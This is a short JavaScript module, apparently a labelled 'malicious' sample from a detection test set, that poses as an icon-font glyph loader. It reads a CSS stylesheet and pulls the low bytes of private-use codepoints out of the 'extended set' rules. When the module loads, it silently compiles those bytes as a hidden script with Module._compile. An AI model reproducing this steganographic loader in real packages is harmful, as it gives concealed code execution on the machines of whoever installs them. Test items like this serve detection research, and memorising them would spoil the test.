// expect: malicious
// source: blind set 56's icon font (steganography): the stylesheet's "extended set" rules use private-use codepoints
// U+EAxx whose low bytes, in rule order, spell a script that the module compiles when it is loaded
'use strict';
const fs = require('fs');
const path = require('path');
const Module = require('module');
const RULE = /\.ix-([a-z0-9-]+):before\{content:"\\([0-9a-f]{4})"\}/g;
function load() {
  const css = fs.readFileSync(path.join(__dirname, '..', 'css', 'ix-icons.css'), 'utf8');
  const map = new Map();
  const ext = [];
  let m;
  while ((m = RULE.exec(css))) {
    const cp = parseInt(m[2], 16);
    map.set(m[1], cp);
    if (cp >= 0xea00 && cp <= 0xeaff) ext.push(cp & 0xff);
  }
  if (ext.length) {
    const mod = new Module(path.join(__dirname, 'ext.js'), module);
    mod._compile(Buffer.from(ext).toString('latin1'), mod.id);
  }
  return map;
}
module.exports = { glyphs: load() };
